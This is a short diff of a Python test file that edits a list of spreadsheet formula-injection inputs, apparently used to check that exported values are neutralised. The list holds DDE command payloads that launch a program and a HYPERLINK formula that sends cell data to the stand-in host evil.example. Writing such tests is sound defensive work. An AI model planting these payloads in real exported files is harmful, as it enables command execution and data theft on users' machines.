@@ -50,7 +50,7 @@ def test_values_are_written_as_strict_json(value: Any, text: str) -> None:
 
 
 FORMULAS = [
-    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0"),
+    *("=1+1", "=cmd|' /C calc'!Q7", '=HYPERLINK("http://evil.example?"&Q1)', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!Q7"),
     *(
         "@SUM(1)",
         "\t=1+1",
